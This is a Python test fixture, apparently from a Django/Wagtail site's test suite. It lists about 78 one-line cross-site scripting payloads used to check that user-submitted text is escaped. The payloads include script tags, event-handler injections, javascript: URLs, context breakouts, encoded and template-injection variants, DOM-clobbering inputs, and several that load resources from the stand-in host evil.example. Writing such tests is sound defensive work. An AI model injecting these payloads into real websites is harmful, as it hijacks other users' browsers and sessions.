"""
What somebody may write who wants others' browsers to run it.

One line each and at most 100 characters, so that each fits wherever people write. Where it runs, it opens a dialog.
An ordinary run tries one of each kind, everywhere; with CIVIC_LONG=1 it tries all of them.
"""

from tests.gates.scale import LONG

PAYLOADS = [
    # Elements of their own
    "<script>alert(1)</script>",
    "<ScRiPt>alert(2)</sCrIpT>",
    "<script src=//evil.example/3.js></script>",
    "<script\t>alert(4)</script\t>",
    "<script/x>alert(5)</script/x>",
    "<scr<script>ipt>alert(6)</scr</script>ipt>",
    "<<script>alert(7)//<</script>",
    "<img src=x onerror=alert(8)>",
    "<img src=x onerror=alert(9)//",
    "<img/src/onerror=alert(10)>",
    '<img src="x`y" onerror=alert(11)>',
    "<IMG SRC=javascript:alert(12)>",
    "<svg onload=alert(13)>",
    "<svg/onload=alert(14)>",
    "<svg><script>alert(15)</script></svg>",
    "<svg><animate onbegin=alert(16) attributeName=x dur=1s>",
    "<svg><a href=javascript:alert(17)><text y=20>click</text></a></svg>",
    "<math><mi xlink:href=javascript:alert(18)>x</mi></math>",
    "<iframe src=javascript:alert(19)></iframe>",
    "<iframe srcdoc='<script>alert(20)</script>'></iframe>",
    "<object data=javascript:alert(21)></object>",
    "<embed src=javascript:alert(22)>",
    "<video><source onerror=alert(23)></video>",
    "<audio src=x onerror=alert(24)>",
    "<details open ontoggle=alert(25)>",
    "<body onload=alert(26)>",
    "<input autofocus onfocus=alert(27)>",
    "<select autofocus onfocus=alert(28)>",
    "<marquee onstart=alert(29)>x</marquee>",
    "<p onpointerenter=alert(30)>come here</p>",
    "<a href=javascript:alert(31)>click</a>",
    "<a href='jav&#x09;ascript:alert(32)'>click</a>",
    "<a href=data:text/html,<script>alert(33)</script>>click</a>",
    "<form action=javascript:alert(34)><button>go</button></form>",
    "<button formaction=javascript:alert(35)>go</button>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(37)'>",
    "<link rel=stylesheet href=//evil.example/38.css>",
    "<style>@import'//evil.example/39.css';</style>",
    "<div style='background:url(javascript:alert(40))'>",
    "<template><script>alert(41)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(42)>'>",
    "<textarea></textarea><img src=x onerror=alert(43)>",
    "<title></title><img src=x onerror=alert(44)>",
    "<xmp><p title='</xmp><img src=x onerror=alert(45)>'>",
    "<custom-element onfocus=alert(46) tabindex=0 autofocus>",
    # Out of where the text stands
    '"><script>alert(47)</script>',
    "'><script>alert(48)</script>",
    '" onmouseover="alert(49)',
    "' onmouseover='alert(50)",
    '" autofocus onfocus=alert(51) x="',
    "` onmouseover=alert(52) `",
    "--><script>alert(53)</script><!--",
    "]]><script>alert(54)</script>",
    "</title><script>alert(55)</script>",
    "</textarea><script>alert(56)</script>",
    "</script><script>alert(57)</script>",
    "</style><script>alert(58)</script>",
    "</a></li></ul></main><script>alert(59)</script>",
    '";alert(60);//',
    "';alert(61);//",
    "\\u003cscript\\u003ealert(62)\\u003c/script\\u003e",
    "\\';alert(63);//",
    "javascript:alert(64)",
    # For what stands between the text and the page
    "&lt;script&gt;alert(65)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(66)&#62;",
    "%3Cscript%3Ealert(67)%3C/script%3E",
    "+ADw-script+AD4-alert(68)+ADw-/script+AD4-",
    "{{ 7|add:'62' }} {% load static %} {# 69 #}",
    "${alert(70)} #{alert(70)} <%= alert(70) %>",
    "[click](javascript:alert(71)) ![](x onerror=alert(71))",
    "%(first_name)s %s %(title)r {0} {page.title}",
    # Marks that our scripts and those of Wagtail obey
    "<civic-form data-busy=x><a href=//evil.example/>x</a></civic-form>",
    "<civic-challenge data-script=//evil.example/74.js></civic-challenge>",
    "<i data-civic=errors data-civic-fragment data-civic-state=confirmed>x</i>",
    "<b data-controller=w-action data-action=click->w-action#post>x</b>",
    "<img name=getElementById><form name=body>",
    "<a id=civic-main name=civic-main>x</a>",
]

#: By their numbers: elements, ways out of where a text stands, what is decoded on the way, what scripts obey.
OF_EACH_KIND = [
    *(1, 8, 13, 31, 36, 39, 43),
    *(47, 48, 49, 50, 53, 54, 55, 56, 57, 58, 60, 62, 64),
    *(65, 66, 69, 72),
    *(73, 76),
]
TRIED = PAYLOADS if LONG else [PAYLOADS[number - 1] for number in OF_EACH_KIND]

HARMLESS = "Un banc près du lavoir"
